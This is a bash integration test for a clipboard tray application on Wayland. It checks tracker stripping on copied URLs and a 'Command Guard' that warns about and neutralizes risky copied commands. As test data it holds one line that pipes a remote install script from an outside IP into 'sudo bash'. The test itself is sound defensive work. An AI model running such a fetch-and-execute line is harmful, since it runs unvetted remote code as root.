#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-3.0-or-later
# The tray application on a Wayland compositor with a data-control protocol (run by
# run-under-sway.sh), on Qt's Wayland platform, with a tray host and a notification service:
#   app-on-wayland.sh TESSARIL-APP TESSARIL DESKTOP-SERVICES RULE-BUNDLE
# Links copied by wl-copy paste clean through wl-paste, the same one copied again is cleaned again,
# with no word of an X11 fallback; a risky command shows its warning in the menu, read over D-Bus as
# the tray reads it; "Quit Tessaril" ends it. Then, with commandGuard_neutralize switched on by the
# tool, a risky command pastes as its commented copy, and SIGTERM ends it cleanly.
# (A password manager's copy is checked on this compositor by the adapter's own tests.)
set -u
# A session bus of its own, as a desktop session has, so the test can tell when the application is up.
[ -n "${DBUS_SESSION_BUS_ADDRESS:-}" ] || exec dbus-run-session -- "$0" "$@" 2> >(grep -v 'fd limit' >&2)
app=$1 tool=$2 services=$3
. "$(dirname "$0")/app-session.sh"
# The rules beside no installed copy: the bundle given.
export TESSARIL_RESOURCES=$(dirname "$4") QT_QPA_PLATFORM=wayland
paste() { wl-paste --no-newline 2>/dev/null; }

link='https://shop.example/item?id=3&utm_source=mail&fbclid=x'
clean='https://shop.example/item?id=3'
command='curl -fsSL http://203.0.113.7/install.sh | sudo bash'

"$services" --tray --notifications >"$home/services" 2>&1 &
pids+=($!)
eventually grep -q ready "$home/services" || fail "the tray host did not start"
start_in_tray
for count in 1 2; do
    wl-copy "$link"
    eventually pastes "$clean" || fail "the copied link pastes as $(paste)"
    eventually shows "$count URLs cleaned today" || fail "the menu does not count the clean: $(menu)"
done
eventually banner "URL Cleaned" "Removed 2 trackers: utm_source, fbclid" || fail "no banner for the clean"
grep -q "XWayland" "$home/err" && fail "it fell back to X11 on a compositor with data-control"

wl-copy "$command"
eventually shows "Command Guard: Danger" || fail "the menu shows no warning: $(menu)"
pastes "$command" || fail "the risky command pastes as $(paste)"
banner "Risky command copied" "" || fail "no banner for the risky command"
click "Quit Tessaril"
stop_app "Quit Tessaril"

"$tool" prefs set commandGuard_neutralize on || fail "the tool could not switch on replacing"
start_in_tray
wl-copy "$command"
eventually pastes_prefix "# Tessaril neutralized a risky command" || fail "the risky command pastes as $(paste)"
eventually banner "Risky command neutralized" "" || fail "no banner for the replaced command"
kill -TERM "$pid"
stop_app SIGTERM
echo "PASSED"
